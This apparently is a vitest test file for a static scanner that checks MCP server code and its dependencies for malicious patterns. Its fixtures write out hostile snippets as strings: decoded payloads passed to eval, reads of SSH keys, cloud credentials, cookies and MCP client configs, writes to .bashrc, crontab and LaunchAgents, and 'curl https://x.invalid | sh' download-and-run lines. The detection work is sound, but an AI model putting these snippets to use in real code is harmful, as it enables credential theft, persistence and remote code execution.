/**
 * Throughput is measured, not asserted (a timed test would flake on a shared 2-core runner).
 * Micro-benchmark used while tuning: read every file of a real node_modules into memory as
 * ScannedFile records (originOf, HEAD_BYTES, TEXT_SCAN_LIMIT as the reader does), then time each
 * family's scanFile over all of them, best of 7, and compare with `unzip -p bundle > /dev/null`
 * on a zip of the same tree. On @modelcontextprotocol/server-filesystem's production
 * node_modules (4,102 files, 24.5 MB) the four content families took 98 ms together
 * (secrets 62, code 33, install 2, native 1) against 140 ms for unzip -p, on a loaded machine.
 * What is asserted here is that hostile input stays linear (the "stays linear" cases).
 */
import { describe, expect, it } from 'vitest';
import { ScanCollector } from '../collector.ts';
import { HEAD_BYTES, scannedFile, type CodeOrigin } from '../types.ts';
import { CODE_RULES, languageOf, scanCode } from './code.ts';

function scan(path: string, text: string | Buffer | undefined, origin: CodeOrigin = 'own') {
  const content = typeof text === 'string' ? Buffer.from(text, 'utf8') : text;
  const sink = new ScanCollector();
  const size = content?.length ?? 64 * 1024 * 1024;
  scanCode(
    scannedFile({ path, size, origin, head: content?.subarray(0, HEAD_BYTES) ?? Buffer.alloc(0), content }),
    sink,
  );
  const capabilities = sink.capabilities();
  return {
    rules: sink.findings.map((f) => f.rule).sort(),
    severities: sink.findings.map((f) => `${f.rule}:${f.severity}`),
    own: capabilities.own.map((c) => c.capability),
    dependencies: capabilities.dependencies.map((c) => c.capability),
  };
}

const rules = (path: string, text: string) => scan(path, text).rules;
const js = (text: string) => rules('server/index.js', text);
const py = (text: string) => rules('server/main.py', text);

describe('CODE_RULES', () => {
  it('are code- rules; in dependencies each drops one step, but a .pth that starts a process rejects anywhere', () => {
    for (const rule of Object.values(CODE_RULES)) {
      expect(rule.id).toMatch(/^code-/);
      if (rule.id === 'code-pth-process') expect(rule.dependencySeverity).toBe('reject');
      else expect(rule.dependencySeverity).toBe(rule.severity === 'reject' ? 'review' : 'info');
    }
  });
});

describe('languageOf', () => {
  it.each([
    ['a.js', 'js'],
    ['a.mjs', 'js'],
    ['a.cjs', 'js'],
    ['a.ts', 'js'],
    ['a.tsx', 'js'],
    ['a.jsx', 'js'],
    ['a.py', 'py'],
    ['a.d.ts', undefined],
    ['a.d.mts', undefined],
    ['a.json', undefined],
    ['a.js.map', undefined],
  ])('%s → %s', (path, language) => expect(languageOf(path)).toBe(language));

  it.each([
    ['#!/usr/bin/env node\n', 'js'],
    ['#!/usr/bin/env -S node --no-warnings\n', 'js'],
    ['#!/usr/bin/python3 -u\n', 'py'],
    ['#!/usr/bin/env uv run\n', 'py'],
    ['#!/bin/sh\nnode x.js\n', 'sh'],
    ['// node\n', undefined],
  ])('an extensionless script starting %j → %s', (head, language) => {
    expect(languageOf('server/bin/cli', Buffer.from(head))).toBe(language);
    // An extension decides, whatever the first line says.
    expect(languageOf('server/bin/cli.txt', Buffer.from(head))).toBeUndefined();
  });
});

describe('capabilities', () => {
  it('finds each capability in JavaScript', () => {
    const text = [
      "import { exec } from 'node:child_process';",
      'const https = require("https");',
      "import fs from 'fs/promises';",
      'const token = process.env.API_TOKEN;',
      'const value = eval(expression);',
      "const addon = require('./build/Release/addon.node');",
    ].join('\n');
    expect(scan('server/index.js', text).own).toEqual(['env', 'eval', 'filesystem', 'native', 'network', 'shell']);
  });

  it('finds network in fetch, WebSocket and client libraries; eval in Function and vm', () => {
    expect(scan('a.js', 'await fetch(url)').own).toEqual(['network']);
    expect(scan('a.js', 'new WebSocket(url)').own).toEqual(['network']);
    expect(scan('a.mjs', "import axios from 'axios/dist/node/axios.cjs'").own).toEqual(['network']);
    expect(scan('a.js', 'const f = new Function("a", "return a")').own).toEqual(['eval']);
    expect(scan('a.cjs', 'const vm = require("vm")').own).toEqual(['eval']);
    expect(scan('a.js', 'process.dlopen(module, file)').own).toEqual(['native']);
    expect(scan('a.js', 'const F = Function;\nnew F("return 1")').own).toEqual(['eval']);
    expect(scan('a.js', '(0, eval)(source)').own).toEqual(['eval']);
  });

  it('does not mistake look-alikes for capabilities', () => {
    const text = [
      'const m = /x/.exec(input);',
      'cache.fetch(key);',
      'myprocess.env = 1;',
      'evaluate(x); obj.eval(y); prefetch(z);',
      'if (f instanceof Function) call(f, Function);',
      "const http = 'https://example.com'; const net = 'net';",
      "const name = 'fs';",
    ].join('\n');
    expect(scan('a.js', text).own).toEqual([]);
  });

  it('finds each capability in Python', () => {
    const text = [
      'import os, subprocess',
      'from urllib.request import urlopen',
      'import ctypes',
      'key = os.environ["KEY"]',
      'with open(path) as f:',
      '    exec(f.read())',
    ].join('\n');
    expect(scan('server/main.py', text).own).toEqual(['env', 'eval', 'filesystem', 'native', 'network', 'shell']);
    expect(scan('a.py', 'from os import system, getenv').own).toEqual(['env', 'shell']);
    expect(scan('a.py', "mod = __import__('socket')").own).toEqual(['network']);
  });

  it('does not take methods or strings for Python capabilities', () => {
    const text = ['m = pattern.exec(x)', 'self.open(door)', 'text = "import subprocess"', 'r = re.compile(p)'].join(
      '\n',
    );
    expect(scan('a.py', text).own).toEqual([]);
  });

  it('finds the package of a deep or scoped import, and none in a relative path', () => {
    expect(scan('a.js', "require('fs-extra/lib/copy')").own).toEqual(['filesystem']);
    expect(scan('a.js', "import { x } from 'socket.io-client/dist/x.js'").own).toEqual(['network']);
    expect(scan('a.js', "require('./child_process'); require('../http/index.js')").own).toEqual([]);
    expect(scan('a.js', "import x from '@scope/http'; import y from '@/fs'").own).toEqual([]);
  });

  it('does not take Object properties for modules, and still reports the real ones', () => {
    const js = "require('constructor'); import x from 'toString'; import 'hasOwnProperty'; require('fs')";
    expect(scan('a.js', js).own).toEqual(['filesystem']);
    const py = 'import constructor, __proto__\nfrom os import toString, getenv\nimport socket';
    expect(scan('a.py', py).own).toEqual(['env', 'network']);
  });

  it('reports capabilities of dependencies apart', () => {
    const result = scan('node_modules/pkg/index.js', "require('child_process')", 'dependency');
    expect(result.own).toEqual([]);
    expect(result.dependencies).toEqual(['shell']);
  });

  it('skips type declarations, binary content and other files', () => {
    expect(scan('node_modules/@types/node/child_process.d.ts', "import * as cp from 'child_process';").own).toEqual([]);
    expect(scan('a.js', Buffer.from("\0\0require('child_process')")).own).toEqual([]);
    expect(scan('README.md', "require('child_process')").own).toEqual([]);
  });
});

describe('code-decode-eval', () => {
  it.each([
    ['eval of base64', "eval(Buffer.from(payload, 'base64').toString());"],
    ['Function of atob', 'new Function(atob(encoded))();'],
    [
      'decoded just before',
      "const src = Buffer.from(p, 'base64').toString('utf8');\nconst run = eval;\nrun(src); eval(src);",
    ],
    ['vm of zlib', "const vm = require('vm');\nvm.runInThisContext(zlib.inflateSync(blob).toString());"],
    ['eval of fromCharCode', 'eval(String.fromCharCode(97, 108, 101, 114, 116));'],
  ])('fires on %s', (_name, text) => {
    expect(js(text)).toEqual(['code-decode-eval']);
  });

  it.each([
    ['exec of b64decode', 'import base64\nexec(base64.b64decode(PAYLOAD))'],
    ['exec of marshal/zlib', 'import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))'],
    ['eval of codecs', "import codecs\neval(codecs.decode(s, 'rot13'))"],
    ['exec of a variable decoded just before', 'import base64\ncode = base64.b64decode(PAYLOAD)\nexec(code)'],
  ])('fires in Python on %s', (_name, text) => {
    expect(py(text)).toEqual(['code-decode-eval']);
  });

  it('does not fire on eval of plain data, or on decoding without eval', () => {
    expect(js('const value = eval(expression);')).toEqual([]);
    expect(js("const bytes = Buffer.from(body, 'base64');\nwrite(bytes);")).toEqual([]);
    expect(js("const g = Function('return this')();")).toEqual([]);
    expect(py('data = base64.b64decode(body)\nprint(data)')).toEqual([]);
    // A method named exec is not the exec builtin.
    expect(py('cursor.exec(base64.b64decode(q))')).toEqual([]);
  });

  it('is review inside a dependency', () => {
    const { severities } = scan('node_modules/x/i.js', 'eval(atob(s))', 'dependency');
    expect(severities).toEqual(['code-decode-eval:review']);
  });
});

describe('code-sensitive-file-read', () => {
  it.each([
    [
      'an SSH key',
      "const fs = require('fs');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));",
    ],
    [
      'AWS credentials',
      "import { readFile } from 'node:fs/promises';\nawait readFile(`${home}/.aws/credentials`, 'utf8');",
    ],
    [
      'another client config',
      "import fs from 'fs';\nconst cfg = fs.readFileSync(join(appData, 'Claude', 'claude_desktop_config.json'));",
    ],
    ['Cursor MCP config', "const fs = require('fs');\nfs.readFileSync(home + '/.cursor/mcp.json')"],
    [
      'browser cookies',
      "const fs = require('fs');\nfs.copyFileSync(join(profile, 'Default', 'Network', 'Cookies'), tmp);",
    ],
    ['a keychain', "const cp = require('child_process');\ncp.execSync('cat ~/Library/Keychains/login.keychain-db');"],
  ])('fires on reading %s', (_name, text) => {
    expect(js(text)).toEqual(['code-sensitive-file-read']);
  });

  it('fires in Python', () => {
    expect(py("import os\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()")).toEqual([
      'code-sensitive-file-read',
    ]);
  });

  it('does not fire on a mention without a read, or without any file API', () => {
    // No fs or shell in the file: nothing can read it.
    expect(js("const help = 'Put your key in ~/.ssh/id_rsa';\nfetch(url);")).toEqual([]);
    // fs is used, but far from the mention.
    expect(
      js(`const fs = require('fs');\nconst help = 'keys live in ~/.ssh';\n${'//\n'.repeat(400)}fs.readFileSync(p);`),
    ).toEqual([]);
    // A public key, a property called ssh.
    expect(js("const fs = require('fs');\nfs.readFileSync(join(home, 'id_rsa.pub'));")).toEqual([]);
    expect(js("const fs = require('fs');\nfs.readFileSync(config.ssh + 'x');")).toEqual([]);
    expect(js("const fs = require('fs');\nfs.readFileSync(paid_rsa_report);")).toEqual([]);
  });
});

describe('code-startup-file-write', () => {
  it.each([
    ['.bashrc', "const fs = require('fs');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl x | sh');"],
    ['.zshrc via shell', "const { execSync } = require('child_process');\nexecSync('echo payload >> ~/.zshrc');"],
    ['a LaunchAgent', "import fs from 'fs';\nfs.writeFileSync(`${home}/Library/LaunchAgents/com.x.plist`, plist);"],
    ['crontab', "const cp = require('child_process');\ncp.execSync('(crontab -l; echo \"* * * * * x\") | crontab -');"],
    [
      'the Startup folder',
      "const fs = require('fs');\nfs.writeFileSync(appData + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\x.bat', s);",
    ],
  ])('fires on writing %s', (_name, text) => {
    expect(js(text)).toEqual(['code-startup-file-write']);
  });

  it('fires in Python', () => {
    expect(py("import os\nwith open(os.path.expanduser('~/.profile'), 'a') as f:\n    f.write(line)")).toEqual([
      'code-startup-file-write',
    ]);
  });

  it('does not fire on reads, on look-alike names or without a write', () => {
    expect(js("const fs = require('fs');\nconst rc = fs.readFileSync(join(home, '.bashrc'), 'utf8');")).toEqual([]);
    expect(js("const fs = require('fs');\nfs.writeFileSync(out, user.profile);")).toEqual([]);
    expect(js("const fs = require('fs');\nconst tip = 'add this line to ~/.zshrc';\nconsole.log(tip);")).toEqual([]);
    expect(js("const fs = require('fs');\nfs.writeFileSync(p, JSON.stringify({ autostart: true }));")).toEqual([]);
  });
});

describe('code-pth-import', () => {
  it('fires on a .pth with an import line', () => {
    expect(rules('server/lib/evil.pth', '/opt/lib\nimport os; os.environ.setdefault("A", "1")\n')).toEqual([
      'code-pth-import',
    ]);
  });

  it('does not fire on a .pth of paths only, and is review in site-packages', () => {
    expect(rules('server/lib/paths.pth', '/opt/lib\n./vendor\n# import os\n')).toEqual([]);
    expect(scan('lib/site-packages/distutils-precedence.pth', 'import os\n', 'dependency').severities).toEqual([
      'code-pth-import:review',
    ]);
  });
});

describe('code-shell-interpolation', () => {
  it.each([
    ['an exec template', "const { exec } = require('child_process');\nexec(`git clone ${url} ${dir}`, cb);"],
    ['execSync concatenation', "import { execSync } from 'child_process';\nexecSync('rm -rf ' + target);"],
    ['cp.exec of a variable plus', "const cp = require('child_process');\ncp.exec(cmd + ' --force');"],
    ['spawn with shell: true', "const { spawn } = require('child_process');\nspawn(command, args, { shell: true });"],
  ])('fires on %s', (_name, text) => {
    expect(js(text)).toEqual(['code-shell-interpolation']);
  });

  it.each([
    ['os.system with an f-string', 'import os\nos.system(f"convert {src} {dst}")'],
    ['os.popen with %', 'import os\nos.popen("ls %s" % path)'],
    ['subprocess with shell=True', 'import subprocess\nsubprocess.run(cmd, shell=True, check=True)'],
    ['getoutput with +', 'import subprocess\nsubprocess.getoutput("git log " + ref)'],
  ])('fires in Python on %s', (_name, text) => {
    expect(py(text)).toEqual(['code-shell-interpolation']);
  });

  it('does not fire on argv arrays, literal commands or RegExp#exec', () => {
    expect(js("const { execFile } = require('child_process');\nexecFile('git', ['clone', url, dir]);")).toEqual([]);
    expect(
      js("const { spawn } = require('child_process');\nspawn('npm', ['install'], { cwd: dir, shell: true });"),
    ).toEqual([]);
    expect(js("const { exec } = require('child_process');\nexec('git status', cb);")).toEqual([]);
    expect(js("require('child_process');\nconst m = pattern.exec(`${a}b`);")).toEqual([]);
    // No child_process in the file: exec is someone's own function.
    expect(js('exec(`select * from ${table}`);')).toEqual([]);
    expect(py('import subprocess\nsubprocess.run(["convert", src, dst], check=True)')).toEqual([]);
    expect(py('import os\nos.system("clear")')).toEqual([]);
  });

  it('is info inside a dependency', () => {
    const text = "const { exec } = require('child_process');\nexec(`open ${url}`);";
    expect(scan('node_modules/open/index.js', text, 'dependency').severities).toEqual([
      'code-shell-interpolation:info',
    ]);
  });
});

describe('code-obfuscated', () => {
  const obfuscated = () => {
    const names = Array.from({ length: 12 }, (_, i) => `_0x${(0x1a2b + i * 0x111).toString(16)}`);
    return `var ${names[0]}=['log','hello'];(function(${names[1]},${names[2]}){${names
      .map((n, i) => `var ${n}=${names[(i + 1) % names.length]}[${i}];`)
      .join('')}})(${names[0]},0x1b3);`;
  };

  it('fires on javascript-obfuscator output', () => {
    expect(js(obfuscated())).toEqual(['code-obfuscated']);
  });

  it('fires on an escaped blob passed to eval', () => {
    const blob = [...'require("child_process")'].map((c) => '\\x' + c.charCodeAt(0).toString(16)).join('');
    expect(js(`eval("${blob}");`)).toEqual(['code-obfuscated']);
    expect(py(`exec("${blob}")`)).toEqual(['code-obfuscated']);
  });

  it('fires on PyArmor', () => {
    expect(py("from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY0000')")).toEqual([
      'code-obfuscated',
    ]);
  });

  it('does not fire on minified code, hex literals or a few _0x names', () => {
    const minified = 'function a(b,c){return b+c}var d=0x1f2e,e=0xabcdef;'.repeat(200);
    expect(js(minified)).toEqual([]);
    expect(js('const _0x1234 = 1, _0x5678 = 2;')).toEqual([]);
    expect(js('const data = "\\x00\\x01\\x02"; eval(expr);')).toEqual([]);
  });
});

describe('code-unscanned-large-file', () => {
  it('fires on a code file without content, as info in a dependency', () => {
    expect(scan('server/bundle.js', undefined).severities).toEqual(['code-unscanned-large-file:review']);
    expect(scan('node_modules/x/big.js', undefined, 'dependency').severities).toEqual([
      'code-unscanned-large-file:info',
    ]);
  });

  it('does not fire on other large files', () => {
    expect(scan('server/data.bin', undefined).rules).toEqual([]);
    expect(scan('node_modules/x/index.d.ts', undefined, 'dependency').rules).toEqual([]);
  });
});

describe('reporting', () => {
  it('reports each rule once per file, with its origin', () => {
    const text =
      "const { exec } = require('child_process');\nexec(`a ${b}`);\nexec(`c ${d}`);\neval(atob(x));eval(atob(y));";
    expect(scan('node_modules/x/a.js', text, 'dependency').severities.sort()).toEqual([
      'code-decode-eval:review',
      'code-shell-interpolation:info',
    ]);
  });

  it.each([
    ['open calls', 'require('.repeat(200_000)],
    ['backticks', `const cp = require('child_process');${'exec(`'.repeat(200_000)}`],
    ['nested decoded evals', `${'eval(atob('.repeat(200_000)}`],
    ['evals and a blob', `${'eval(x);'.repeat(100_000)}${'A'.repeat(500_000)}`],
    ['escapes', `eval("${'\\x41'.repeat(500_000)}`],
    ['sensitive paths without reads', `const fs = require('fs');${"'.ssh/".repeat(200_000)}`],
    ['rc files without writes', `import fs from 'fs';${'"/.bashrc" '.repeat(200_000)}`],
    ['decoy paths before one read', `const fs = require('fs');${"'.ssh/' ".repeat(200_000)}fs.readFileSync(x);`],
    [
      'decoy rc files before one write',
      `const fs = require('fs');${'"/.bashrc" '.repeat(200_000)}fs.writeFileSync(x, y);`,
    ],
    ['long import lists', `import ${'a, '.repeat(300_000)}`],
    ['shell calls', `import subprocess\n${'subprocess.run(x, '.repeat(100_000)}`],
  ])('stays linear on %s', (_name, hostile) => {
    for (const path of ['server/hostile.js', 'server/hostile.py']) {
      const started = performance.now();
      scan(path, hostile);
      // About 1-2 MB each; a quadratic walk would take minutes.
      expect(performance.now() - started).toBeLessThan(1500);
    }
  });
});

describe('issue 12: strings that reach a shell', () => {
  it('a redirect in a string is a write only when the string reaches a shell', () => {
    // yargs' completion template: printed, never run.
    const template =
      "const { execFileSync } = require('child_process');\nconst fs = require('fs');\nconst t = `# {{app_path}} completion >> ~/.zshrc\\n`;\nconsole.log(t);\nexecFileSync('git', ['status']);\nfs.writeFileSync('/tmp/x', 'y');";
    expect(js(template)).toEqual([]);
    expect(js("const cp = require('child_process');\nconst line = 'echo x >> ~/.bashrc';\ncp.execSync(line);")).toEqual(
      ['code-startup-file-write'],
    );
    expect(rules('server/setup.sh', '#!/bin/sh\necho "node a.js &" >> "$HOME/.zshrc"\n')).toEqual([
      'code-startup-file-write',
    ]);
    expect(rules('server/setup.sh', '#!/bin/sh\necho "add this to ~/.zshrc yourself"\n')).toEqual([]);
  });

  it('a file API writes the startup file only when the path is in its arguments or in a variable passed to it', () => {
    expect(
      js("const fs = require('fs');\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.appendFileSync(rc, 'x');"),
    ).toEqual(['code-startup-file-write']);
    expect(
      js("const fs = require('fs');\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.writeFileSync(out, 'x');"),
    ).toEqual([]);
  });
});

describe('code-download-exec', () => {
  it.each([
    ['exec curl | sh', "const { exec } = require('child_process');\nexec('curl -fsSL https://x.invalid/i.sh | sh');"],
    [
      'execSync wget -O- | bash',
      "import { execSync } from 'child_process';\nexecSync('wget -O- https://x.invalid | bash');",
    ],
    [
      'spawn sh -c',
      "const { spawn } = require('child_process');\nspawn('/bin/sh', ['-c', 'curl -s https://x.invalid | sh']);",
    ],
    [
      'iwr | iex',
      "const cp = require('child_process');\ncp.execSync('powershell -c \"iwr https://x.invalid | iex\"');",
    ],
    ['$(curl)', "const cp = require('child_process');\ncp.exec('sh -c \"$(curl -fsSL https://x.invalid)\"');"],
    [
      'download then run',
      "const cp = require('child_process');\ncp.exec('curl -o /tmp/x https://x.invalid && chmod +x /tmp/x && /tmp/x');",
    ],
    [
      'a variable',
      "const cp = require('child_process');\nconst boot = 'curl -fsSL https://x.invalid | bash';\ncp.execSync(boot);",
    ],
    [
      'tsc indirect',
      'const child_process_1 = require("child_process");\n(0, child_process_1.exec)("curl https://x.invalid | sh");',
    ],
    [
      'esbuild',
      'var import_child_process = __toESM(require("child_process"));\nimport_child_process.execSync("curl https://x.invalid | sh");',
    ],
    ['require member', 'require("child_process").exec("curl https://x.invalid | sh");'],
    ['a renamed import', "import { exec as run } from 'node:child_process';\nrun('curl https://x.invalid | sh');"],
  ])('fires on %s', (_name, text) => {
    expect(js(text)).toEqual(['code-download-exec']);
  });

  it('fires in Python and in shell scripts, and is review in a dependency', () => {
    expect(py('import os\nos.system("curl -s https://x.invalid | bash")')).toEqual(['code-download-exec']);
    expect(py('import subprocess\nsubprocess.run(["bash", "-c", "curl -s https://x.invalid | sh"])')).toEqual([
      'code-download-exec',
    ]);
    expect(rules('server/boot.sh', '#!/bin/bash\ncurl -fsSL https://x.invalid | bash\n')).toEqual([
      'code-download-exec',
    ]);
    expect(
      scan('node_modules/x/i.js', "require('child_process').execSync('curl https://x.invalid | sh');", 'dependency')
        .severities,
    ).toEqual(['code-download-exec:review']);
  });

  it('does not fire on a download without a run, a help text, or execFile without a shell', () => {
    expect(js("const { execFile } = require('child_process');\nexecFile('curl', ['-fsSL', url, '-o', out]);")).toEqual(
      [],
    );
    expect(
      js("const cp = require('child_process');\nconsole.log('install: curl -fsSL https://x.invalid | sh');"),
    ).toEqual([]);
    expect(js("const cp = require('child_process');\ncp.execFile('curl', ['https://x.invalid', '|', 'sh']);")).toEqual(
      [],
    );
  });
});

describe('transpiled call forms and decoded commands', () => {
  it.each([
    ['tsc indirect', 'const child_process_1 = require("child_process");\n(0, child_process_1.exec)(`git ${a}`);'],
    [
      'tsc member',
      'const child_process_1 = __importStar(require("child_process"));\nchild_process_1.execSync("git " + a);',
    ],
    [
      'esbuild',
      'var import_child_process = require("child_process");\n(0, import_child_process.execSync)(`git ${a}`);',
    ],
    ['bracket', "const c = require('child_process');\nc['exec'](`git ${a}`);"],
  ])('sees shell interpolation through %s', (_name, text) => {
    expect(js(text)).toEqual(['code-shell-interpolation']);
  });

  it('does not take RegExp#exec on a module-less receiver for a shell', () => {
    expect(js('const child_process_1 = require("child_process");\nconst m = re.exec(`${a}`);')).toEqual([]);
  });

  it('treats decoded data run as a command like decoded data passed to eval', () => {
    expect(
      js("const { execSync } = require('child_process');\nexecSync(Buffer.from(p, 'base64').toString());"),
    ).toEqual(['code-decode-eval']);
    expect(js("const { spawn } = require('child_process');\nconst c = atob(p);\nspawn('sh', ['-c', c]);")).toContain(
      'code-decode-eval',
    );
    expect(py('import os, base64\nos.system(base64.b64decode(p).decode())')).toContain('code-decode-eval');
    // Encoding a command for PowerShell's -EncodedCommand is not decoding one.
    expect(
      js(
        "const cp = require('child_process');\nconst e = Buffer.from(raw, 'utf16le').toString('base64');\ncp.execFile(ps, ['-EncodedCommand', e]);",
      ),
    ).toEqual([]);
  });
});

describe('credential paths (shared with the text rules) and anchored client configs', () => {
  it.each([
    ['.npmrc', "join(homedir(), '.npmrc')"],
    ['.git-credentials', "join(homedir(), '.git-credentials')"],
    ['.netrc', "join(homedir(), '.netrc')"],
    ['.docker/config.json', "join(homedir(), '.docker', 'config.json')"],
    ['gcloud', "join(homedir(), '.config', 'gcloud', 'credentials.db')"],
    ['Azure', "join(homedir(), '.azure', 'msal_token_cache.json')"],
    ['.gnupg', "join(homedir(), '.gnupg', 'secring.gpg')"],
    ['gh hosts', "join(homedir(), '.config', 'gh', 'hosts.yml')"],
    ['~/.cursor/mcp.json', "join(os.homedir(), '.cursor', 'mcp.json')"],
    ['VS Code user mcp.json', "join(process.env.APPDATA, 'Code', 'User', 'mcp.json')"],
  ])('fires on reading %s', (_name, path) => {
    expect(js(`const fs = require('fs');\nfs.readFileSync(${path});`)).toEqual(['code-sensitive-file-read']);
  });

  it('does not fire on project-relative client configs or .env, or on a server of its own mcp.json', () => {
    expect(js("const fs = require('fs');\nfs.readFileSync(path.join(root, '.vscode', 'mcp.json'));")).toEqual([]);
    expect(
      js("const fs = require('fs');\n// the home folder\nfs.readFileSync(path.join(root, '.vscode', 'mcp.json'));"),
    ).toEqual([]);
    expect(js("const fs = require('fs');\nfs.readFileSync(path.resolve(process.cwd(), '.env'));")).toEqual([]);
    expect(js("const fs = require('fs');\nfs.readFileSync(path.join(os.homedir(), '.sentry', 'mcp.json'));")).toEqual(
      [],
    );
  });
});

describe('code-pth-process', () => {
  it('rejects a .pth that starts a process or runs a string, even in site-packages', () => {
    for (const line of [
      'import subprocess; subprocess.Popen(["sh", "-c", "id"])',
      'import os; os.system("id")',
      "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
      "import sys; __import__('subprocess').run(['id'])",
    ]) {
      expect(scan('lib/site-packages/x.pth', `${line}\n`, 'dependency').severities).toEqual([
        'code-pth-process:reject',
        'code-pth-import:review',
      ]);
    }
  });

  it('leaves import lines that start nothing to code-pth-import', () => {
    const setuptools =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    expect(scan('lib/site-packages/distutils-precedence.pth', setuptools, 'dependency').severities).toEqual([
      'code-pth-import:review',
    ]);
    expect(
      scan('lib/site-packages/cov.pth', 'import coverage; coverage.process_startup()\n', 'dependency').severities,
    ).toEqual(['code-pth-import:review']);
  });
});

describe('issue 12: more of the same families', () => {
  it('sees a download-and-run command joined from an array, through a dynamic import binding', () => {
    expect(js("const cp = require('child_process');\ncp.exec(['curl', url, '|', 'sh'].join(' '));")).toEqual([
      'code-download-exec',
    ]);
    expect(js("const m = await import('node:child_process');\nm.execSync('curl https://x.invalid | sh');")).toEqual([
      'code-download-exec',
    ]);
  });

  it('sees a .pth that reaches os through __import__', () => {
    expect(rules('lib/site-packages/x.pth', "import sys; __import__('os').system('id')\n")).toContain(
      'code-pth-process',
    );
  });
});

describe("zx's and execa's $ tag", () => {
  it('is a shell for download-and-run and startup writes', () => {
    expect(js("import { $ } from 'zx';\nawait $`curl -fsSL https://x.invalid | sh`;")).toEqual(['code-download-exec']);
    expect(js("import { $ } from 'zx';\nawait $`echo x >> ~/.zshrc`;")).toEqual(['code-startup-file-write']);
    expect(js("import { $ } from 'zx';\nawait $`git status`;\nconsole.log('curl https://x.invalid | sh');")).toEqual(
      [],
    );
  });
});

describe('a startup path in a variable, written far below', () => {
  it('is still a write', () => {
    const text = `const fs = require('fs');\nconst rc = path.join(os.homedir(), '.bashrc');\n${'// padding\n'.repeat(2000)}fs.appendFileSync(rc, 'x');`;
    expect(js(text)).toEqual(['code-startup-file-write']);
  });
});

describe('a credential path in a variable, read far below', () => {
  it('is still a read', () => {
    const text = `const fs = require('fs');\nconst p = path.join(os.homedir(), '.npmrc');\n${'// padding\n'.repeat(2000)}fs.readFileSync(p, 'utf8');`;
    expect(js(text)).toEqual(['code-sensitive-file-read']);
  });
});
